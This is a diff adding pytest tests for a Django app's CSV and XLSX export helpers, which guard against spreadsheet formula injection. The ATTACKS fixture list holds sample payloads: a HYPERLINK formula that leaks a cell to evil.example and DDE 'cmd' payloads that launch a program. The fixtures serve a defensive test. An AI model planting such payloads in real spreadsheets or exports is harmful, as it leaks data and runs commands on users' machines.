@@ -1,0 +1,115 @@
+"""The one writer of CSV and XLSX files: no cell it writes can be a formula (issue 8)."""
+
+from __future__ import annotations
+
+import csv
+import datetime as dt
+import io
+from decimal import Decimal
+
+import pytest
+from django.utils.translation import gettext_lazy
+from openpyxl import Workbook, load_workbook
+
+from codemonitor.core.exports import (
+    TRIGGERS,
+    SafeCsvWriter,
+    cell_safe,
+    csv_bytes,
+    xlsx_append,
+    xlsx_bytes,
+)
+
+ATTACKS = [
+    '=HYPERLINK("https://evil.example/?d="&A1, "Ministry of Health")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "=1+1",
+    "-5",  # text that looks like a number: quoted too (see core/exports.py)
+    "+44 20 7946 0000",  # a telephone written as text
+]
+HARMLESS = ["Ministry of Health", "", "1+1", "5", "a=b", "Directorate -- HRH", "'quoted", "é=1"]
+
+
+def test_the_triggers_are_owasp_s() -> None:
+    assert set(TRIGGERS) == {"=", "+", "-", "@", "\t", "\r"}
+
+
+@pytest.mark.parametrize("trigger", TRIGGERS)
+def test_each_trigger_gets_a_quote(trigger: str) -> None:
+    assert cell_safe(f"{trigger}1+1") == f"'{trigger}1+1"
+    assert cell_safe(trigger) == f"'{trigger}"
+
+
+@pytest.mark.parametrize("value", ATTACKS)
+def test_text_that_could_start_a_formula_gets_a_quote(value: str) -> None:
+    assert cell_safe(value) == "'" + value
+
+
+@pytest.mark.parametrize("value", HARMLESS)
+def test_other_text_is_left_as_it_is(value: str) -> None:
+    assert cell_safe(value) == value
+
+
+@pytest.mark.parametrize(
+    "value",
+    [-5, 0, 12, -2.5, Decimal("-1.50"), True, None, dt.date(2024, 2, 1), dt.time(9, 30)],
+)
+def test_numbers_dates_and_empty_cells_are_left_as_they_are(value: object) -> None:
+    assert cell_safe(value) is value
+
+
+def test_anything_else_is_written_and_checked_as_its_text() -> None:
+    assert cell_safe(gettext_lazy("Ministry")) == "Ministry"
+
+    class Named:
+        def __str__(self) -> str:
+            return "=1+1"
+
+    assert cell_safe(Named()) == "'=1+1"
+
+
+def test_the_csv_writer_quotes_every_dangerous_cell() -> None:
+    rows = [["name", "count"], *([value, -3] for value in ATTACKS + HARMLESS)]
+    data = csv_bytes(rows)
+    read = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
+    assert read[0] == ["name", "count"]
+    for value, row in zip(ATTACKS + HARMLESS, read[1:], strict=True):
+        assert row == [("'" + value) if value in ATTACKS else value, "-3"]
+    # The writer itself, over an open file, does the same.
+    handle = io.StringIO()
+    SafeCsvWriter(handle, lineterminator="\n").writerow(["=1+1", 2, None])
+    assert handle.getvalue() == "'=1+1,2,\n"
+
+
+def test_the_xlsx_cells_are_strings_never_formulas() -> None:
+    rows: list[list[object]] = [
+        ["name", "count"],
+        *([value, -3] for value in [*ATTACKS, *HARMLESS, "#N/A"]),
+    ]
+    workbook = load_workbook(io.BytesIO(xlsx_bytes({"register": rows})))
+    sheet = workbook["register"]
+    cells = list(sheet.iter_rows(min_row=2, values_only=False))
+    assert len(cells) == len(ATTACKS) + len(HARMLESS) + 1
+    for value, (text, number) in zip([*ATTACKS, *HARMLESS, "#N/A"], cells, strict=True):
+        expected = "'" + value if value in ATTACKS else value or None
+        # XML reads a carriage return back as a line feed; the quote is still in front.
+        assert text.value == (expected.replace("\r", "\n") if expected else None)
+        assert text.data_type == "s" or (value == "" and text.value is None)
+        assert (number.value, number.data_type) == (-3, "n")
+
+
+def test_xlsx_append_on_a_sheet_of_ones_own() -> None:
+    workbook = Workbook()
+    sheet = workbook.active
+    xlsx_append(sheet, ["name", "date"])
+    xlsx_append(sheet, ["=1+1", dt.date(2024, 2, 1)])
+    assert sheet["A2"].value == "'=1+1" and sheet["A2"].data_type == "s"
+    assert sheet["B2"].value == dt.date(2024, 2, 1)
+    output = io.BytesIO()
+    workbook.save(output)
+    again = load_workbook(io.BytesIO(output.getvalue()))
+    assert again.active["A2"].value == "'=1+1"
